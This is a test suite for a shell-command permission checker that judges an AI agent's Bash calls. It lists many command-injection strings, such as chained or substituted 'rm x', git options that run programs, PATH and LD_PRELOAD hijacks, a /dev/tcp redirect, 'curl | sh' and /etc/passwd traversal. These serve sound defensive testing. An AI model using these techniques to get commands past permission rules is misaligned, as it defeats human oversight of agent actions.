"""Rules for the shell: what an allowed command may not carry along, and what a deny sees through."""

import os
import random
import subprocess
from collections.abc import Iterator, Sequence
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from dragoman.permissions.decide import decide
from dragoman.permissions.rules import BadRule, Behaviour, Call, parse
from dragoman.permissions.shell.pattern import UNKNOWN, is_known
from dragoman.permissions.shell.script import LENGTH_LIMIT, parse_script

ALLOWS = ("git *", "npm run *", "ls")


def judged(
    command: str, allow: Sequence[str] = (), deny: Sequence[str] = (), mode: str = "default"
) -> Behaviour:
    rules = [parse(f"Bash({text})", "allow", scope="user", source="x") for text in allow]
    rules += [parse(f"Bash({text})", "deny", scope="user", source="x") for text in deny]
    return decide(Call(tool="Bash", command=command), rules, mode).behaviour


SMUGGLED = [
    # another command behind, before, beside
    "git status; rm x",
    "git status;rm x",
    "git status && rm x",
    "git status || rm x",
    "git status | rm x",
    "git status |& rm x",
    "git status & rm x",
    "git status\nrm x",
    "git status\n\n  rm x",
    "rm x; git status",
    "rm x | git apply",
    "git status;;rm x",
    "git status; # x\nrm x",
    "git status # x\nrm x",
    "git status && { rm x; }",
    "git status && (rm x)",
    "(rm x; git status)",
    "{ git status; rm x; }",
    "! rm x",
    "git status; ! rm x",
    "if git status; then rm x; fi",
    "if rm x; then git status; fi",
    "if git status; then ls; else rm x; fi",
    "if git status; then ls; elif rm x; then ls; fi",
    "while git status; do rm x; done",
    "until rm x; do ls; done",
    "for i in a; do rm x; done",
    "for i in $(rm x); do ls; done",
    "for ((i=0;i<1;i++)); do rm x; done",
    "select i in a; do rm x; done",
    "case a in a) rm x;; esac",
    "case $(rm x) in a) ls;; esac",
    "[ -f x ] && rm x",
    "[[ -f x ]] || rm x",
    "[ $(rm x) ] && ls",
    "[[ 'a[$(rm x)]' -eq 0 ]] && ls",
    "[ a > out ] && ls",
    "((a[$(rm x)]=1)); ls",
    "coproc rm x",
    "coproc X { rm x; }",
    "time rm x",
    "time -p rm x",
    "function git { rm x; }; git status",
    "git() { rm x; }; git status",
    "git () (rm x); git status",
    # substitutions
    "git log $(rm x)",
    "git log `rm x`",
    'git log "$(rm x)"',
    'git log "`rm x`"',
    "git log '$(ls)'$(rm x)",
    "git log $(git status; rm x)",
    "git log $(ls $(rm x))",
    "git log `ls \\`rm x\\``",
    "git log <(rm x)",
    "git log >(rm x)",
    "git log ${x:-$(rm x)}",
    "git log ${x:=$(rm x)}",
    "git log ${x/$(rm x)/y}",
    "git log ${x@P}",
    "git log ${a[$(rm x)]}",
    "git log $((a[$(rm x)]))",
    "git log $[a[$(rm x)]]",
    "git log {a,$(rm x)}",
    "git log a$(rm x)b",
    'git log "a\\"$(rm x)"',
    'git log "${x:-$(rm x)}"',
    "git log <<< $(rm x)",
    'git log <<< "$(rm x)"',
    "git log <<EOF\n$(rm x)\nEOF",
    "git log <<EOF\nEOF\nrm x",
    "git log <<'EOF'\nEOF\nrm x",
    "git log <<-EOF\n\tEOF\nrm x",
    "git log <<\\EOF\nx\nEOF\nrm x",
    'git log <<"E F"\nE F\nrm x',
    "git log << A << B\nA\nB\nrm x",
    # another program by the same words
    "'git status'",
    '"git status"',
    "git\\ status",
    "./git status",
    "/tmp/git status",
    "~/git status",
    "../git status",
    "Git status",
    "git$x status",
    "$git status",
    "${git} status",
    "$(echo git) status",
    "`echo git` status",
    "g{i,x}t status",
    "gi? status",
    "g*t status",
    "[g]it status",
    "$'git' status",
    '$"git" status',
    "gi\\\nt status",
    "git\\\nrm x",
    "$IFS",
    "git${IFS}status",
    "git$IFS$(rm x)",
    "{git,status}",
    "git status\\\n;rm x",
    "ls\\\n;rm x",
    "ls&&\\\nrm x",
    # assignments
    "PATH=/tmp git status",
    "PATH=/tmp; git status",
    "PATH=/tmp\ngit status",
    "PATH=/tmp && git status",
    "A=1 PATH=/tmp git status",
    "GIT_SSH_COMMAND='rm x' git fetch",
    "LD_PRELOAD=/tmp/x.so ls",
    "x=$(rm x) git status",
    "x=$(rm x)",
    "x+=$(rm x) ls",
    "a=(x $(rm x)) ls",
    "a[$(rm x)]=1 ls",
    "export PATH=/tmp; ls",
    "declare -x PATH=/tmp; ls",
    "readonly x=$(rm x); ls",
    "unset PATH; ls",
    "for PATH in /tmp; do git status; done",
    "read PATH; ls",
    # programs that run programs
    "env rm x",
    "env git=x rm x",
    "env -i rm x",
    "env -S 'rm x'",
    "command rm x",
    "builtin eval rm x",
    "exec rm x",
    "eval rm x",
    "eval 'git status; rm x'",
    "nohup rm x",
    "nice rm x",
    "timeout 5 rm x",
    "xargs rm",
    "git ls-files | xargs rm",
    "git ls-files | xargs -0 -n1 rm",
    "git ls-files | xargs git rm",
    "sh -c 'rm x'",
    "bash -c 'git status; rm x'",
    "git log | sh",
    "git log | bash -s",
    ". ./x",
    "source x",
    "trap 'rm x' EXIT; ls",
    "alias ls='rm x'\nls",
    "hash -p /bin/rm ls; ls",
    "enable -f /tmp/x.so ls; ls",
    "sudo git status",
    "watch git status",
    # git and its ways to run other programs
    "git -c core.pager='rm x' log",
    "git -c alias.x='!rm x' x",
    "git -ccore.pager=x log",
    "git --config-env=core.pager=X log",
    "git --exec-path=/tmp log",
    "git -C /x -c core.pager=x log",
    "git rebase --exec 'rm x' HEAD~1",
    "git rebase -x 'rm x' HEAD~1",
    "git bisect run rm x",
    "git submodule foreach 'rm x'",
    "git fetch --upload-pack='rm x' .",
    "git clone ext::'rm x' y",
    "git clone -u 'rm x' y",
    "git grep -O'rm x' y",
    "git config core.pager 'rm x'",
    "git difftool -x 'rm x'",
    "git filter-branch --tree-filter 'rm x'",
    "git fetch --upload-pa='rm x' .",
    "git fetch --up 'rm x' .",
    "git push --e='rm x'",
    "git push --rec='rm x'",
    "git rebase --exe 'rm x' HEAD",
    "git rebase -r --exe='rm x' HEAD",
    "git rebase -ix 'rm x' HEAD",
    "git rebase -i$X HEAD",
    "git fetch --$X",
    "git grep -nO'rm x' y",
    "git grep --open='rm x' y",
    "git clone -qu 'rm x' . y",
    "git clone -qc core.sshCommand='rm x' ssh://y",
    "git clone --conf core.sshCommand='rm x' ssh://y",
    "git clone --template=/tmp/x y",
    "git ls-remote --exe='rm x' .",
    "git archive --ex='rm x' --remote=.",
    "git my-alias -ix 'rm x'",
    "git --attr-source HEAD -c core.pager='rm x' log",
    "git merge-index 'rm' x",
    "git remote-ext x 'rm x'",
    "git fetch {--upload-pack='rm x',.}",
    "git fetch -{-upload-pack='rm x',x} .",
    "git {config,core.pager,'rm x'}",
    "git c{onfig,ore.pager} 'rm x'",
    "git $X",
    "git $(git status) log",
    # files
    "git log > x",
    "git log >x",
    "git log >> x",
    "git log >| x",
    "git log &> x",
    "git log >& x",
    "git log 2> x",
    "git log < x",
    "git log <> x",
    "> x git log",
    ">x",
    "git log {fd}> x",
    "git log > $x",
    "git log > /dev/null/../../x",
    "git log > /dev/nullx",
    "git log > /dev/tcp/1.2.3.4/80",
    "(git log) > x",
    "{ git log; } > x",
    "git log > /dev/null > x",
    "git log 2>&1 > x",
    "git log 2>&1 y",
    # what does not read as a command
    "",
    " ",
    "\n",
    "# git status",
    "git status '",
    'git status "',
    "git status `",
    "git status $(",
    "git status )",
    "git status &&",
    "git status |",
    "| git status",
    "; git status",
    "git status \\",
    "git status\x00; rm x",
    "git status\rrm x",
    "git\x0bstatus",
    "git status\x0c",
    "git status \x1b[0m",
    "git\u00a0status",
    "git\u3000status",
    "git\u2028rm x",
    "git status \u202e",
    "git sta\u200btus",
    "git status \ud800",
    "git status " + "a" * LENGTH_LIMIT,
    "git log " + "$(" * 200 + "ls" + ")" * 200,
    "git",
    "npm run",
    "npm install",
    "npm  install run x",
    "npm 'run x'",
    "ls x",
    "ls -la",
    "lsof",
    "((git status); ls)",
    "$((git status); ls)",
    "@(git) status",
    "if ls; then git status",
    "{git status;}",
    "}; rm x",
    "then rm x",
    "[[ a ]]rm x",
]


@pytest.mark.requirement("PRM-4")
@pytest.mark.parametrize("command", SMUGGLED, ids=lambda text: ascii(text)[:60])
def test_an_allowed_prefix_never_allows_a_second_command(command: str):
    assert judged(command, ALLOWS) == "ask"
    assert judged(command, ALLOWS, mode="dontAsk") == "deny"


ORDINARY = [
    "git status",
    "  git status  ",
    "git status\n",
    "git   status",
    "git\tstatus",
    "git status;",
    "git status &",
    "git log --oneline -n 5",
    "git log --format='%H %s'",
    'git log --format="%H %s"',
    "git log HEAD~2..HEAD^ -- src/a.py",
    "git show HEAD@{1}",
    "git show stash@{0}:a",
    "git commit -m 'a; rm x && echo $(y)'",
    'git commit -m "two\nlines"',
    'git commit -m "say \\"hi\\" for 5\\$"',
    "git commit -m don\\'t",
    "git commit -m 'it'\\''s'",
    "git commit -m 'naïve ✓'",
    "git -C sub/dir status",
    "git switch -c new-branch",
    "git clean -fdx",
    "git push -u origin main",
    "git commit -umno -mfixup",
    "git rebase --onto main -i HEAD~2",
    "git add config run.py",
    "git log --exit-code --output-indicator-new=x",
    "git add *.py src/",
    "git add {a,b}.py",
    "git add ~/x",
    "git diff ../other",
    "git add -- 'a file' \"b file\"",
    "git log \\\n  --oneline \\\n  -n 5",
    "git\\\n status",
    "git log 2>&1",
    "git log 2>/dev/null",
    "git log >/dev/null 2>&1",
    "git log &>/dev/null",
    "git log </dev/null",
    "git log 2>&-",
    "git log >&2",
    "git apply <<< 'x'",
    "git status # what is new",
    "# first\ngit status",
    "\\git status",
    "'git' status",
    'g"i"t status',
    "git 'status'",
    "git log --x=$HOME/y",
    "git log a$x",
    "git log -n $((2+3))",
    "npm run build",
    "npm run test:unit -- --watch --x='a b'",
    "npm  run\tbuild",
    "ls",
    "ls; ls",
    "git status; ls",
    "git status && npm run build || ls",
    "git log | git shortlog",
    "git status &\nls",
    "git status\nls",
    "(git status; ls)",
    "{ git status; ls; }",
    "! git status",
    "if git status; then ls; else npm run x; fi",
    "if git status\nthen ls\nfi",
    "while git status; do ls; done",
    "[ -f a.txt ] && ls",
    "[[ -d src ]] && git status",
    "git log --since=$(git log -1 --format=%cd)",
    "git log --since=`ls`",
    'git commit -m "on $(ls)"'.replace("on $", "on: $"),
    "time git status",
    "command git status",
    "nohup git fetch &",
    "env git status",
    "timeout 5m git fetch",
]


@pytest.mark.requirement("PRM-4")
@pytest.mark.parametrize("command", ORDINARY, ids=lambda text: ascii(text)[:60])
def test_ordinary_commands_are_allowed(command: str):
    assert judged(command, ALLOWS) == "allow"


@pytest.mark.parametrize("command", ORDINARY, ids=lambda text: ascii(text)[:60])
def test_allowed_commands_are_valid_bash(command: str):
    done = subprocess.run(["bash", "-n", "-c", command], capture_output=True, text=True, timeout=20)
    assert (done.returncode, done.stderr) == (0, "")


@pytest.mark.requirement("PRM-4")
@pytest.mark.parametrize(
    ("pattern", "command", "is_allowed"),
    [
        ("git status", "git status", True),
        ("git status", "git status -s", False),
        ("npm run:*", "npm run", True),
        ("npm run:*", "npm run x y", True),
        ("npm run:*", "npm runx", False),
        ("npm run *", "npm run", False),
        ("npm run *", "npm run ''", True),
        ("git * --dry-run", "git push origin --dry-run", True),
        ("git * --dry-run", "git push origin", False),
        ("git * --dry-run", "git --dry-run", False),
        ("git * -m * -q", "git commit -m x -q", True),
        ("git * -m * -q", "git commit -m -q", False),
        ("cat src/*", "cat src/a.py", True),
        ("cat src/*", "cat src/lib/a.py", True),
        ("cat src/*", "cat src/../../etc/passwd", False),
        ("cat src/*", "cat src/..", False),
        ("cat src/*", "cat src/a.py /etc/passwd", False),
        ("cat src/*", "cat src/$X", False),
        ("cat src/*", "cat src/{a,../../b}", False),
        ("cat src/*.py", "cat src/a.py", True),
        ("cat src/*.py", "cat src/lib/a.py", False),
        ("echo \\*", "echo '*'", True),
        ("echo \\*", "echo x", False),
        ('git commit -m "a b"', "git commit -m 'a b'", True),
        ('git commit -m "a b"', "git commit -m a b", False),
        ("make && make check", "make && make check", True),
        ("make && make check", "make && make checks", False),
        ("make > log.txt", "make > log.txt", True),
        ("make > log.txt", "make", False),
        ("A=1 make *", "A=1 make x", True),
        ("A=1 make *", "A=2 make x", False),
        ("A=* make *", "A=1 make x", False),
        ("* --version", "git --version", True),
        ("* --version", "PATH=/tmp git --version", False),
        ("sudo apt *", "sudo apt update", True),
        ("sudo *", "sudo rm x", False),
        ("sudo -u root *", "sudo -u root rm x", False),
        ("env A=1 *", "env A=1 rm x", False),
        ("timeout 60 npm test *", "timeout 60 npm test x", True),
        ("timeout 60 *", "timeout 60 rm x", False),
        ("xargs grep *", "xargs grep -l x", True),
        ("xargs *", "xargs rm", False),
        ("sudo find *", "sudo find . -exec rm {} ;", False),
        ("find *", "find . -name '*.py'", True),
        ("find *", "find . -exec rm {} +", False),
        ("find *", "find . {-exec,rm,x}", False),
        ("tar *", "tar -xf a.tar", True),
        ("tar *", "tar xzf a.tar", True),
        ("tar *", "tar xIf 'rm x' a.tar", False),
        ("tar *", "tar --use='rm x' -xf a.tar", False),
        ("tar *", "tar --rs='rm x' -xf a.tar", False),
        ("rsync *", "rsync -av --delete a b", True),
        ("rsync *", "rsync -ave 'rm x' a b", False),
        ("bash scripts/*", "bash scripts/build.sh", True),
        ("bash *", "bash -c 'rm x'", False),
        ("bash *", "bash $X", False),
        ("printf *", "printf -v PATH x", False),
        ("export *", "export PATH=/tmp", False),
        ("export A=1", "export A=1", True),
        ("eval *", "eval rm x", False),
        ("} *", "} x", False),
        ("in *", "in x", False),
        ("env", "env", True),
        ("*", "anything; at > all", True),
    ],
)
def test_which_commands_a_pattern_matches(pattern: str, command: str, is_allowed: bool):
    assert judged(command, [pattern]) == ("allow" if is_allowed else "ask")


@pytest.mark.parametrize(
    "text", ["Bash(git * && npm *)", "Bash(git * > x)", "Bash(git * | sh)", "Bash(echo $X *)"]
)
def test_an_allow_with_a_wildcard_is_for_one_command(text: str):
    with pytest.raises(BadRule, match="one command"):
        parse(text, "allow", scope="user", source="x")
    parse(text, "deny", scope="user", source="x")


HIT = [
    "rm x",
    "rm",
    "rm -rf x",
    "RM x",
    "  rm   x ",
    "\\rm x",
    "'rm' x",
    'r"m" x',
    "/bin/rm x",
    "./rm x",
    "../../bin/rm x",
    "command rm x",
    "command -p rm x",
    "builtin rm x",
    "exec rm x",
    "env rm x",
    "env -i A=b rm x",
    "/usr/bin/env rm x",
    "A=b rm x",
    "nohup rm x &",
    "nice -n 5 rm x",
    "timeout -k 1 5 rm x",
    "sudo -u root rm x",
    "xargs rm",
    "ls | xargs -0 -n 1 rm -f",
    "find . -exec rm {} ;",
    "find . -name x -execdir /bin/rm {} +",
    "sh -c 'rm x'",
    'bash -lc "cd y && rm x"',
    "bash -c \"sh -c 'rm x'\"",
    "eval rm x",
    "eval 'ls; rm x'",
    "trap 'rm x' EXIT",
    "watch -n1 'rm x'",
    "ls; rm x",
    "ls && rm x",
    "ls | rm x",
    "ls & rm x",
    "(rm x)",
    "{ rm x; }",
    "echo $(rm x)",
    "echo `rm x`",
    'echo "$(rm x)"',
    "echo <(rm x)",
    "x=$(rm x)",
    "if ls; then rm x; fi",
    "for i in a; do rm $i; done",
    "case a in a) rm x;; esac",
    "f() { rm x; }; f",
    "cat <<EOF\n$(rm x)\nEOF\n",
    "rm x > y",
    "time rm x",
    "! rm x",
    "coproc rm x",
]


@pytest.mark.requirement("PRM-4")
@pytest.mark.parametrize("mode", ["default", "bypassPermissions"])
@pytest.mark.parametrize("command", HIT, ids=lambda text: ascii(text)[:60])
def test_a_deny_matches_programs_started_by_other_programs(command: str, mode: str):
    assert judged(command, ["*", "rm x"], ["rm *"], mode) == "deny"


@pytest.mark.parametrize(
    "command", ["echo rm x", "git rm x", "echo 'rm x'", "rmdir x", "ls rm", "git commit -m 'rm x'"]
)
def test_a_deny_matches_programs_and_not_arguments(command: str):
    assert judged(command, ["*"], ["rm *"]) == "allow"


@pytest.mark.parametrize(
    "command",
    [
        "$X y",
        "r$X y",
        "$(echo rm) y",
        "`echo rm` y",
        "$'\\x72m' y",
        "r? y",
        "{rm,y}",
        "~/y",
        "ls '",
        "ls\x00",
        "r\\\nm y",
        "for i in rm; do $i y; done",
        "eval $X",
        'sh -c "$X"',
        "xargs $X",
        "cat <<E\nE\n",
        "env $X",
        "find . $X",
    ],
)
def test_a_command_that_may_match_a_deny_is_asked_about_even_if_all_are_allowed(command: str):
    for mode in ("default", "bypassPermissions"):
        assert judged(command, ["*"], ["rm *"], mode) == "ask"
    assert judged(command, ["*"]) == "allow"


UNSEEN = [
    "echo 'rm -rf x' | sh",
    "bash <<< 'rm -rf x'",
    "bash < x",
    "sh",
    "sh ./script",
    "/bin/sh ./script",
    "cat x | bash -s",
    "cat x | bash -",
    "bash -x ./script",
    "source x",
    ". x",
    "command . x",
    "sudo sh ./script",
    "sudo -u root make",
    "env -S 'r''m x'",
    "ls | xargs sh",
    "ls | xargs find",
    "ls | xargs nice",
    "ls | xargs -I% % x",
    "find . -exec sh ./script ;",
    "find . -exec",
    "sh -c 'sh ./script'",
    "sh -c '$0 x' rm",
    "sh -c 'env \"$@\"' x rm y",
    "sh -c -x y",
    "fish -c 'ls'",
    "git -c alias.x='!rm y' x",
    "git rebase -ix 'make' HEAD",
    "tar --to-command='r\\m x' -xf a",
    "ssh host rm x",
    "echo rm x | ssh host",
    "read 'a[$(rm y)]'",
    "x='a[$(rm y)]'; [[ x -eq 1 ]]",
]


@pytest.mark.requirement("PRM-4")
@pytest.mark.parametrize("command", UNSEEN, ids=lambda text: ascii(text)[:60])
def test_commands_that_cannot_be_analysed_are_asked_about_while_a_deny_exists(command: str):
    for mode in ("default", "bypassPermissions", "auto"):
        assert judged(command, ["*"], ["rm *"], mode) in ("ask", "deny")
    assert judged(command, ["*"]) == "allow"
    assert judged(command, mode="bypassPermissions") == "allow"


@pytest.mark.parametrize(
    "text",
    [
        "env ",
        "sh -c ",
        *(
            pytest.param(text, marks=pytest.mark.slow)
            for text in ("xargs ", "sudo nice ", "find . -exec ", "command ")
        ),
    ],
)
def test_very_deeply_nested_programs_are_asked_about(text: str):
    command = text * (LENGTH_LIMIT // len(text) - 1) + "ls"
    assert judged(command, ["git *"]) == "ask"
    assert judged(command, ["*"], ["rm *"]) == "ask"


def test_a_command_too_long_to_compare_matches_any_deny():
    assert judged("x" * 1_000_001, ["*"], ["rm *"]) == "deny"
    assert judged("x" * 1_000_000, ["*"], ["rm *"]) == "ask"


def test_commands_that_cannot_be_analysed_are_named():
    rules = [parse("Bash(rm *)", "deny", scope="user", source="x")]
    verdict = decide(Call(tool="Bash", command="make; sh ./x"), rules, "bypassPermissions")
    assert verdict.behaviour == "ask"
    assert "what sh ./x runs cannot be compared" in verdict.reason
    assert "Bash(rm *)" in verdict.reason


def test_commands_that_cannot_be_analysed_are_covered_by_a_rule_that_names_them():
    assert judged("bash scripts/build.sh", ["bash scripts/*"], ["rm *"]) == "allow"
    assert judged("sudo apt update", ["sudo apt *"], ["rm *"]) == "allow"


@pytest.mark.parametrize(
    "command",
    [
        "set -e; make",
        "export A=b && make",
        "while read -r line; do echo x; done",
        "time make",
        "nohup make &",
        "timeout 5 make",
        "env make",
        "sudo make install",
        "ls | xargs grep -l x",
        "find . -name x -exec grep y z +",
        "sh -c 'make; make check'",
        "bash -lc 'make check | cat'",
        "git commit -m 'rm x'",
        "git log | cat",
        "tar -xf a",
        "[ 1 -eq 1 ] && ls",
    ],
)
def test_a_command_that_can_be_analysed_is_not_asked_about_because_of_another_deny(command: str):
    assert judged(command, ["*"], ["rm *"]) == "allow"
    assert judged(command, [], ["rm *"], "bypassPermissions") == "allow"


@pytest.mark.parametrize(
    ("pattern", "command", "is_denied"),
    [
        ("git push *", "git push", True),
        ("git push *", "git  push origin", True),
        ("git push *", "git pull", False),
        ("git push:*", "git push -f", True),
        ("curl * | sh", "curl http://x | sh", True),
        ("curl * | sh", "curl http://x", False),
        ("* --force", "git push --force", True),
        ("*secret*", "cat my-SECRET.txt", True),
        ("git status", "git status", True),
        ("git status", "git status -s", False),
        ("*", "anything", True),
    ],
)
def test_which_commands_a_deny_matches(pattern: str, command: str, is_denied: bool):
    assert judged(command, ["*"], [pattern]) == ("deny" if is_denied else "allow")


# Properties.

simple = st.sampled_from(["a", "a b", "a 'b c'", 'a "b"', "a $x", "a *.c", "a -n 5", "a b=c"])
other = st.sampled_from(
    ["z", "z y", "'z' y", "z $x", "$x", "z=1", "z=1 a", "a() { z; }", "[ $(z) ]", ". z", "a>z", "env z"]
)
NO_PROGRAM = ("z=1", "z=1 a", "a>z")
"""What is not allowed by `a:*`, and runs no `z` either."""
joiner = st.sampled_from(
    [
        ";",
        "; ",
        " ;",
        "&",
        " & ",
        "&&",
        " && ",
        "||",
        "|",
        " | ",
        "|&",
        "\n",
        "\n\n",
        " # x\n",
        " \\\n;",
        ";\\\n",
        "&\n",
    ]
)


@pytest.mark.requirement("PRM-4")
@given(simple, joiner, other, st.booleans())
def test_an_allow_for_one_command_does_not_allow_two(first: str, between: str, second: str, is_turned: bool):
    text = f"{second}{between}{first}" if is_turned else f"{first}{between}{second}"
    assert judged(first, ["a:*"]) == "allow"
    assert judged(text, ["a:*"]) != "allow"
    if second not in NO_PROGRAM:
        assert judged(text, ["a:*"], ["z:*"], "bypassPermissions") != "allow"


@given(
    simple,
    st.sampled_from(
        [
            "a $({})",
            "a `{}`",
            'a "$({})"',
            "a <({})",
            "a x$({})y",
            "({})",
            "{{ {}; }}",
            "! {}",
            "if {}; then a; fi",
        ]
    ),
    st.sampled_from(["z", "z y", "a; z", "a | z", "a && z y", "a\nz", "a $(z)", "z & a"]),
)
def test_an_allow_for_one_command_allows_no_nested_command(first: str, around: str, inner: str):
    assert judged(f"{first}; {around.format(inner)}", ["a:*"]) == "ask"


@given(st.text(max_size=60))
@example("$(" * 5000)
@example("`" * 999)
@example("{ " * 9000)
@example("a <<E\n" * 300)
def test_any_text_is_parsed_without_an_error(text: str):
    script = parse_script(text)
    assert script.unclear or all(
        word.isprintable() or not is_known(word) or "\n" in word or "\t" in word
        for each in script.commands
        for word in each.words
    )
    judged(text, ["a *"], ["z *"])


# The real bash. Programs are stubs that write down how they were called.

PROGRAMS = ("git", "ls", "rm", "cat", "x", "y", "a", "b", "f", "status", "true", "xargs", "sh", "sudo")
STARTERS = ("env", "time", "nohup", "nice", "timeout")
STUB = """#!/bin/bash -p
IFS=$'\\x1f'
set -- "${0##*/}" "$@"
printf '%s\\x1e' "$*" >> "$STUB_LOG"
mapfile -d $'\\x1e' seen < "$STUB_LOG"
[ ${#seen[@]} -lt 20 ]  # no loop goes on for ever
"""


STARTS = """shift {}
exec "$@"
"""


class Bash:
    """A real bash that finds nothing but stubs, in an empty folder."""

    def __init__(self, folder: Path) -> None:
        self._programs = folder / "bin"
        self._log = folder / "log"
        self._work = folder / "work"
        self._programs.mkdir()
        self._work.mkdir()
        for name in PROGRAMS + STARTERS:
            stub = self._programs / name
            stub.write_text(STUB + (STARTS.format(2 if name == "timeout" else 1) if name in STARTERS else ""))
            stub.chmod(0o755)

    def run(self, command: str) -> list[tuple[str, ...]]:
        """Every program that was started, with its arguments."""
        self._log.write_text("")
        env = {"PATH": str(self._programs), "STUB_LOG": str(self._log), "LC_ALL": "C.UTF-8"}
        # What runs in the background holds the pipe open, so reading to its end waits for it.
        subprocess.run(
            ["/bin/bash", "--norc", "--noprofile", "-c", command],
            cwd=self._work,
            env=env,
            stdin=subprocess.DEVNULL,
            capture_output=True,
            timeout=20,
        )
        assert os.listdir(self._work) == [], command
        started = self._log.read_bytes().decode(errors="replace").split("\x1e")[:-1]
        return [tuple(each.split("\x1f")) for each in started]


@pytest.fixture
def bash(tmp_path: Path) -> Bash:
    return Bash(tmp_path)


REAL_ALLOWS = ("git *", "ls", "ls *", "cat", "cat *", "echo *", "true", "npm run *")
MAY_START = {"git", "ls", "cat", "true", *STARTERS}


def check_in(bash: Bash, command: str) -> None:
    """Whatever really started was allowed, and was called as it was read."""
    read = [each.words for each in parse_script(command).commands]
    for started in bash.run(command):
        assert started[0] in MAY_START, (command, started)
        assert any(_may_be(words, started) for words in read), (command, started, read)


def _may_be(words: tuple[str, ...], started: tuple[str, ...]) -> bool:
    """Whether the words, or those behind a program that starts others, are how it was called."""
    if not all(map(is_known, words)):
        return started[0] in words
    return started == words[-len(started) :] and (
        len(started) == len(words) or words[0] in (*STARTERS, "command", "timeout")
    )


def test_the_stub_programs_record_what_is_started(bash: Bash):
    started = bash.run("git 'a b' c; /bin/true; rm x & env ls; $(echo rm) y; nothing")
    assert sorted(started) == [("env", "ls"), ("git", "a b", "c"), ("ls",), ("rm", "x"), ("rm", "y")]


@pytest.mark.requirement("PRM-4")
@pytest.mark.slow
def test_real_bash_starts_only_allowed_programs(bash: Bash):
    allowed = [text for text in ORDINARY + SMUGGLED if judged(text, REAL_ALLOWS) == "allow"]
    assert len(allowed) >= len(ORDINARY)
    for text in allowed:
        check_in(bash, text)


FRAGMENTS = [
    *["git status", "git log x", "ls", "rm x", "rm", "echo", "cat", "git", *[" "] * 8],
    *[
        ";",
        " ; ",
        "&&",
        " && ",
        "||",
        "|",
        " | ",
        "|&",
        "&",
        " & ",
        "\n",
        "\n",
        "\\\n",
        " \\\n",
        "'",
        '"',
        "$(",
        ")",
    ],
    *[
        "`",
        "(",
        " ( ",
        " )",
        "{ ",
        "; }",
        "{",
        "}",
        "<",
        ">",
        " >/dev/null",
        " 2>&1",
        "&>/dev/null",
        "$x",
        "${x}",
    ],
    *[
        "${x:-y}",
        "${",
        "#",
        " #",
        "\\",
        "$'",
        "\\x41",
        "=",
        "PATH=/e ",
        "x=1 ",
        "X=rm;",
        "if ",
        "; then ",
        "; fi",
    ],
    *[
        " else ",
        "; do ",
        "; done",
        "while ",
        "for i in a",
        "case a in a) ",
        "; esac",
        ";;",
        "!",
        " ! ",
        "[[ ",
        " ]]",
    ],
    *[
        "[ ",
        " ]",
        "time ",
        "env ",
        "command ",
        "exec ",
        "eval ",
        "xargs ",
        "sh -c ",
        "<<EOF",
        "<<'E'",
        "\nEOF\n",
    ],
    *[
        "<<<",
        "<(",
        ">(",
        "{a,b}",
        "*",
        "~",
        "function f ",
        "f() ",
        "coproc ",
        "\t",
        "+=",
        "$((",
        "))",
        "((",
        "1+1",
    ],
    *[
        "-x",
        "a b",
        "\\;",
        "\\'",
        '\\"',
        '$"',
        "$@",
        "$IFS",
        "2",
        ">&",
        "<&",
        "-",
        "/dev/null",
        "until ",
        "select ",
    ],
    *[
        "in ",
        "a[0]=",
        "a=(",
        "@(",
        "!(",
        "?",
        "[a]",
        "é",
        "then",
        "do",
        "done",
        "fi",
        "esac",
        "{rm",
        "}rm",
        "$",
    ],
]


def soups(seed: int, count: int) -> Iterator[str]:
    """Texts made of bits of shell, most of them nonsense."""
    dice = random.Random(seed)
    for _ in range(count):
        soup = "".join(dice.choice(FRAGMENTS) for _ in range(dice.randint(2, 9)))
        before = dice.choice(["git status", "ls", "echo a", "git log", ""])
        yield before + soup + dice.choice(["", "", "git status", "ls"])


@pytest.mark.requirement("PRM-4")
@pytest.mark.slow
@pytest.mark.parametrize("seed", range(2))
def test_real_bash_starts_only_allowed_programs_for_random_commands(bash: Bash, seed: int):
    allowed = [text for text in soups(seed, 2000) if judged(text, REAL_ALLOWS) == "allow"]
    assert len(allowed) > 100
    for text in allowed:
        check_in(bash, text)


def test_words_are_split_as_in_bash():
    script = parse_script("git 'a b' \"c \\\"d\\\" \\x $HOME\" e\\ f *.c ~ $'x' -- --x='y z'")
    assert script.unclear is None
    assert script.commands[0].words[:3] == ("git", "a b", f'c "d" \\x {UNKNOWN}')
    assert script.commands[0].words[3] == "e f"
    assert script.commands[0].words[-1] == "--x=y z"
